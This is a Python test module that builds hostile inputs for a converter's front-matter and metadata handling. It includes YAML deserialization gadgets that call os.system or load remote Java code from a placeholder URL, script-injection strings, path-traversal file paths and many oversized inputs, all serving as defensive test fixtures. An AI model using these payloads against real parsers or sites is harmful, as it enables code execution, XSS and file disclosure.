"""Rules 7 and 8: front matter that grows, builds, or means another thing than it says; metadata in HTML and JSON-LD."""

from __future__ import annotations

import html
import json

from tests.hostile.ground import Case, page

FRONT = {
    "merge-keys": "a: &a {b: c}\ntitle: x\n<<: *a",
    "merge-without-alias": "title: x\n<<: [{a: b}, {c: d}]",
    "anchor-without-alias": "title: &a zzkeep29\nauthor: &b B",
    "alias-to-nothing": "title: *nowhere",
    "alias-in-a-circle": "a: &a [*a]",
    "alias-in-text": 'title: "*a &b zzkeep29"\nlang: en',
    "binary": "title: !!binary |\n  R0lGODlhDAAMAIQAAP==",
    "tags-of-all-kinds": "a: !!set {x, y}\nb: !!omap [x: y]\nc: !!pairs [x: y]\nd: !!timestamp 2026-01-01\ntitle: x",
    "tag-that-lies-bool": "title: !!bool x",
    "tag-that-lies-date": "date: !!timestamp x",
    "tag-that-lies-int": "identifier: !!int 0x",
    "tag-that-lies-float": "identifier: !!float x",
    "tag-that-lies-set": "title: !!set [a, [b]]",
    "tag-that-lies-map": "title: !!omap {a: b}",
    "tag-of-an-object": "title: !!python/object/new:os.system ['id']",
    "tag-of-a-module": "title: !!python/module:os ''",
    "tag-of-a-tuple": "title: !!python/tuple [a, b]",
    "tag-of-java": "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['@URL@/']]]]",
    "tag-of-ruby": "title: !ruby/object:Gem::Installer {i: x}",
    "tag-of-its-own": "%TAG ! tag:example.org,2026:\n--- \ntitle: !x y",
    "version": "%YAML 9.9\n---\ntitle: x",
    "key-that-is-a-list": "? [a, b]\n: c\ntitle: x",
    "key-that-is-a-map": "? {a: b}\n: c",
    "key-that-is-a-number": "1: a\n1.0: b\ntrue: c\nnull: d\n2026-01-01: e\ntitle: x",
    "key-twice": "title: first\ntitle: zzkeep29\nTitle: third\nTITLE : x\nlang: en",
    "key-of-python": "__class__: x\n__init__: y\n__dict__: z\ntitle: x",
    "octal": "date: 0o777777777777777777777\nidentifier: 0777777777\ntitle: 0b" + "1" * 3_000,
    "sexagesimal": "date: " + ":".join(["59"] * 2_000) + "\ntitle: x",
    "digits": "identifier: " + "9" * 50_000 + "\ntitle: x",
    "fraction": "identifier: 1." + "0" * 50_000 + "1\ntitle: 1e" + "9" * 300,
    "dates": "date: 9999-12-31T23:59:59.999999999+99:99\nmodified: 0001-01-01\ntitle: x",
    "dates-that-are-none": "date: 2026-02-30\ntitle: x",
    "dates-out-of-reach": "date: 0000-00-00\ntitle: x",
    "zones": "date: 2026-01-01 00:00:00 -23:59\nmodified: 2026-01-01t00:00:00z\ntitle: x",
    "nulls": "title: ~\nauthor: null\nkeywords: [~, null, '']\nlang: ",
    "booleans": "title: yes\nauthor: [on, off, true]\nlang: no\nkeywords: y",
    "maps-for-words": "title: {a: {b: {c: d}}}\nauthor: [{name: {x: y}}, {name: []}, []]\nlang: [en, de]",
    "people": "author:\n" + "".join(f"  - name: A{at}\n    role: x\n" for at in range(2_000)) + "title: x",
    "folded": "title: >\n" + "".join(f"  line {at}\n" for at in range(4_000)) + "lang: en",
    "literal": "title: |+\n" + "  a\n\n\n" * 9_000,
    "quoted-long": 'title: "' + "a" * 60_000 + '"',
    "quoted-open": "title: '" + "a\n" * 9_000,
    "escapes-long": 'title: "' + "\\U0001F600" * 6_000 + '"',
    "escapes-cut": 'title: "\\U0001F6"',
    "escapes-too-far": 'title: "\\UFFFFFFFF"',
    "tabs": "\ttitle: x\n\t\tauthor: y",
    "flow-open": "title: {a: [b, {c: [",
    "flow-long": "keywords: [" + "a, " * 15_000 + "]\ntitle: x",
    "flow-of-maps": "a: {" + "b: {c: d}, e: f, " * 2_000 + "}\ntitle: x",
    "comments": "# x\n" * 15_000 + "title: zzkeep29",
    "colons": "title: a: b: c: d\nlang: en",
    "colons-many": ":" * 60_000,
    "dashes": "- " * 30_000 + "x",
    "question-marks": "? " * 900 + "x",
    "indents": "".join(" " * at + f"a{at}:\n" for at in range(330)) + " " * 331 + "b",
    "documents": "title: a\n--- \ntitle: b\n... \ntitle: c",
    "directives": "%" * 9_000 + "\ntitle: x",
    "bidi": 'title: "a\u202e b \u2066 c"\nauthor: "\u202ez"\nlang: en',
    "controls": 'title: "a\\x00\\x1b[31m\\x07\\x9b b"\nlang: en',
    "raw-controls": "title: a\x1b[31m b\x07\nlang: en",
    "line-ends": 'title: "a\\L b\\P c\\N d"\nlang: en',
    "nel": "title: a\u0085author: b\u2028lang: en",
    "language-tags": "title: x\nlang: " + "en-" * 9_000 + "x",
    "language-of-words": 'title: x\nlang: "en\\" onload=\\"x"',
    "language-grandfathered": "title: x\nlang: i-default",
    "cover": "title: x\ncover: [@OUT@/secret.png]\nimage: {path: '@UP@/secret.png'}",
    "cover-outside": "title: x\nlang: en\ncover: @UP@/secret.png",
    "cover-at-an-address": "title: x\nlang: en\ncover: @URL@/cover.png",
    "cover-in-itself": "title: x\nlang: en\ncover: data:image/svg+xml,%3Csvg onload=x%3E",
    "settings": "title: x\nlang: en\nlimits: {seconds: 999999}\nlimit: [seconds=99999]\nto: pdf\noutput: ../../x\nexporter: {root: /}",
}
LINKED = {
    "deep": "[" * 900 + "]" * 900,
    "very-deep": "[" * 200_000,
    "graph-in-a-circle": json.dumps(
        {"@id": "a", "@graph": [{"@id": "b", "author": {"@id": "a"}}, {"@id": "a", "author": {"@id": "b"}}]}
    ),
    "context-at-an-address": json.dumps(
        {"@context": "@URL@/context.jsonld", "@type": "NewsArticle", "headline": "x", "image": "@URL@/i.png"}
    ),
    "fields-of-all-kinds": json.dumps(
        {
            "@type": ["NewsArticle", 1, None, {}],
            "headline": [1],
            "author": [None, 1, [[]], {"name": {}}],
            "datePublished": {"x": 1},
            "keywords": 9,
        }
    ),
    "nasty": json.dumps(
        {
            "@type": "Article",
            "headline": "</title><script>",
            "author": {"name": "\u202e\x1b[31m\0"},
            "publisher": {"name": "']]>--"},
        }
    ),
    "huge": json.dumps(
        {"@type": "Article", "headline": "h" * 300_000, "author": [{"name": f"A{at}"} for at in range(9_000)]}
    ),
    "number": '{"@type":"Article","headline":' + "9" * 200_000 + "}",
    "not-a-number": '{"@type":"Article","headline":NaN,"datePublished":Infinity}',
    "surrogate": '{"@type":"Article","headline":"\\ud800\\uffff","author":{"name":"\\udc00"}}',
    "closed-early": '{"@type":"Article","headline":"<\\/script><script>alert(1)<!--"}',
}
_NAMES = "author dc.creator dc.title og:title article:author citation_author parsely-author twitter:title itemprop robots".split()

CASES = (
    *(
        Case(
            name=f"front-matter-{name}",
            rule=8,
            main="in.md",
            data=f"---\n{data}\n---\n\n# H\n\nzzkeep29 text\n",
            expect="either",
            keep="zzkeep29" in data,
            files={"p.png": b"x"},
        )
        for name, data in FRONT.items()
    ),
    Case(
        name="front-matter-of-other-kinds",
        rule=8,
        main="in.md",
        data="+++\ntitle = '''zzkeep29'''\n[x]\ny = 1979-05-27T07:32:00-08:00\n+++\n\n;;;\n{\"title\": \"x\"}\n;;;\n\nzzkeep29\n",
    ),
    Case(name="front-matter-twice", rule=8, main="in.md", data="---\ntitle: a\n---\n---\ntitle: b\n---\n\nzzkeep29\n"),
    *(
        Case(
            name=f"linked-data-{name}",
            rule=8,
            main="in.html",
            data=page("<p>x</p>", f'<script type="application/ld+json">{item}</script>'),
        )
        for name, item in LINKED.items()
    ),
    Case(
        name="meta-by-the-thousand",
        rule=8,
        main="in.html",
        data=page(
            "<p>x</p>",
            "".join(
                f'<meta name="{name}" property="{name}" content="{html.escape(value, quote=True)}">'
                for name in _NAMES
                for value in ("</title>", "a\u202eb", "\x1b[31m", "]]>", "x" * 5_000, "", " ", "&#0;", "\ud7ff\ue000")
            ),
        ),
    ),
    Case(
        name="microdata-that-names-itself",
        rule=7,
        main="in.html",
        data=page(
            '<div itemscope itemtype="https://schema.org/Article" id=a itemref="a b a"><p itemprop="headline author name">x'
            '<span itemprop=author itemscope itemref="a" id=b>y</span></div>' * 300
        ),
    ),
)
